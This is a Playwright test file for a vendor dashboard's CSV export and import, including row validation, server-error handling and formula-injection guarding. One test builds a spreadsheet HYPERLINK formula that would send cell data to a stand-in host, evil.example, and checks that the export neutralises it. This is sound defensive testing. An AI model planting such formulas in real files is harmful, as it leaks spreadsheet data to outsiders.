// 'Export Data' and 'Import Data' on /dashboard/vendors: every vendor as RFC 4180 CSV, and back.
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import { signIn } from '../support/auth';
import { PAGE_LOAD } from '../support/pageLoad';
import { recordToasts } from '../support/toasts';

const ID_AND_AUDIT = ['vendorId', 'createdBy', 'createdDate', 'modifiedBy', 'modifiedDate'];

/** A small RFC 4180 reader for the test's own checks (independent of the app's). */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i += 1;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\n') {
      row.push(field.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      field = '';
    } else {
      field += c;
    }
  }
  if (field || row.length) rows.push([...row, field]);
  return rows;
}

const quote = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
const writeCsv = (rows: string[][]) => rows.map((row) => row.map(quote).join(',')).join('\r\n') + '\r\n';

async function openVendors(page: Page) {
  await page.goto('/dashboard/vendors');
  // A first visit also loads the route's code; on a busy machine that has taken longer than PAGE_LOAD.
  await expect(page.getByRole('heading', { name: 'Mortgage Vendor Information', level: 1 })).toBeVisible({ timeout: 60_000 });
  await expect(page.getByText(/^Total \d+ vendors/)).toBeVisible(PAGE_LOAD);
}

async function exportCsv(page: Page): Promise<string[][]> {
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export Data' }).click()]);
  expect(download.suggestedFilename()).toMatch(/^vendors-\d{4}-\d{2}-\d{2}\.csv$/);
  return readCsv(await readFile((await download.path())!, 'utf8'));
}

/** The rows without the id and audit columns (what an import creates from). */
function withoutIds(rows: string[][]): string[][] {
  const keep = rows[0]!.map((name, index) => (ID_AND_AUDIT.includes(name) ? -1 : index)).filter((index) => index >= 0);
  return rows.map((row) => keep.map((index) => row[index] ?? ''));
}

/** The page's vendor count ("Total N vendors"). */
async function listedTotal(page: Page): Promise<number> {
  return Number((await page.getByText(/^Total \d+ vendors/).textContent())!.match(/\d+/)![0]);
}

// The admin journey (vendors-admin.spec.ts) may add, rename and delete its own "E2E Vendor …" at the same time in
// the other worker: the counts allow for it, and the copies are checked on every other vendor.
const byTheAdminJourney = (name: string) => name.startsWith('E2E Vendor ');

test('export every vendor, import the file back without ids: equal vendors created, a bad row refused', async ({ page }) => {
  await signIn(page, 'admin');
  const toasts = await recordToasts(page);
  await openVendors(page);
  const totalBefore = await listedTotal(page);

  const exported = await exportCsv(page);
  const [header, ...rows] = exported;
  expect(header).toContain('vendorName');
  expect(header).toContain('fiveOneARMRate');
  expect(header).toHaveLength(21);
  // Every vendor listed, whatever the other worker did meanwhile (one vendor at a time).
  expect(Math.abs(rows.length - totalBefore)).toBeLessThanOrEqual(1);
  await expect.poll(toasts).toContain(`${rows.length} vendors exported`);

  // The file without the ids and the admin journey's vendor, plus one row without a name (line = header + rows + 1).
  const [fileHeader, ...fileRows] = withoutIds(exported);
  const file = [fileHeader!, ...fileRows.filter((row) => !byTheAdminJourney(row[fileHeader!.indexOf('vendorName')]!))];
  const count = file.length - 1;
  const bad = [...file[1]!];
  bad[file[0]!.indexOf('vendorName')] = '';
  const badLine = file.length + 1;
  await page.getByRole('button', { name: 'Import Data' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import Vendors' });
  await dialog
    .getByLabel('CSV file')
    .setInputFiles({ name: 'vendors.csv', mimeType: 'text/csv', buffer: Buffer.from(writeCsv([...file, bad])) });
  await expect(dialog.getByRole('heading', { name: `Will create ${count} vendors` })).toBeVisible();
  await expect(dialog.getByRole('heading', { name: 'Refused 1 row' })).toBeVisible();
  await expect(dialog.getByText(`Line ${badLine}:`)).toBeVisible();
  await expect(dialog.getByText('vendorName: Please enter vendor name')).toBeVisible();

  await dialog.getByRole('button', { name: `Import ${count} vendors` }).click();
  await expect(dialog).toBeHidden();
  await expect.poll(toasts).toContain(`${count} vendors imported successfully`);
  await expect.poll(() => listedTotal(page)).toBeGreaterThanOrEqual(totalBefore + count - 1);

  // Equal vendors: every row of the file (ids and audit fields aside) is now there twice.
  const after = withoutIds(await exportCsv(page))
    .slice(1)
    .map((row) => JSON.stringify(row));
  for (const row of file.slice(1)) expect(after.filter((line) => line === JSON.stringify(row))).toHaveLength(2);
});

test('a server refusal imports nothing and says why', async ({ page }) => {
  await signIn(page, 'admin');
  await openVendors(page);
  const totalText = (await page.getByText(/^Total \d+ vendors/).textContent())!;
  const exported = await exportCsv(page);
  const file = withoutIds(exported).slice(0, 2);
  // The server refuses the whole call: answer importVendors with a BAD_USER_INPUT for row 1.
  await page.route('**/graphql', async (route) => {
    const body = route.request().postData() ?? '';
    if (!body.includes('useImportVendorsMutation')) return route.fallback();
    await route.fulfill({
      json: {
        data: null,
        errors: [
          {
            message: 'Row 1: Please enter a valid website',
            extensions: { code: 'BAD_USER_INPUT', fields: { 'vendors.0.website': 'Please enter a valid website' } },
          },
        ],
      },
    });
  });
  await page.getByRole('button', { name: 'Import Data' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import Vendors' });
  await dialog.getByLabel('CSV file').setInputFiles({ name: 'vendors.csv', mimeType: 'text/csv', buffer: Buffer.from(writeCsv(file)) });
  await dialog.getByRole('button', { name: 'Import 1 vendor' }).click();
  await expect(dialog.getByText('Nothing was imported')).toBeVisible();
  await expect(dialog.getByText('Line 2, website: Please enter a valid website')).toBeVisible();
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  await expect(page.getByText(totalText)).toBeVisible();
});

test("a vendor named like a spreadsheet formula is exported as text (a leading ') and imported back to its exact name", async ({
  page,
}) => {
  await signIn(page, 'admin');
  const toasts = await recordToasts(page);
  await openVendors(page);
  const formula = `=HYPERLINK("https://evil.example/?d="&B2,"Click me ${Date.now()}")`;
  const template = withoutIds(await exportCsv(page)).slice(0, 2);
  const row = [...template[1]!];
  row[template[0]!.indexOf('vendorName')] = `'${formula}`; // as the export writes it
  row[template[0]!.indexOf('description')] = "@SUM(1+1) and '-quoted";

  await page.getByRole('button', { name: 'Import Data' }).click();
  const dialog = page.getByRole('dialog', { name: 'Import Vendors' });
  await dialog
    .getByLabel('CSV file')
    .setInputFiles({ name: 'vendors.csv', mimeType: 'text/csv', buffer: Buffer.from(writeCsv([template[0]!, row])) });
  // The preview shows the name as stored: the formula's text, without the guard.
  await expect(dialog.getByText(`Line 2: ${formula}`, { exact: true })).toBeVisible();
  await dialog.getByRole('button', { name: 'Import 1 vendor' }).click();
  await expect(dialog).toBeHidden();
  await expect.poll(toasts).toContain('1 vendor imported successfully');

  const [header, ...rows] = await exportCsv(page);
  const exported = rows.find((cells) => cells[header!.indexOf('vendorName')] === `'${formula}`);
  expect(exported, 'the vendor is exported with its name behind a leading apostrophe').toBeDefined();
  expect(exported![header!.indexOf('description')]).toBe("'@SUM(1+1) and '-quoted");
  // No cell of the file would start a formula in Excel or Sheets.
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});
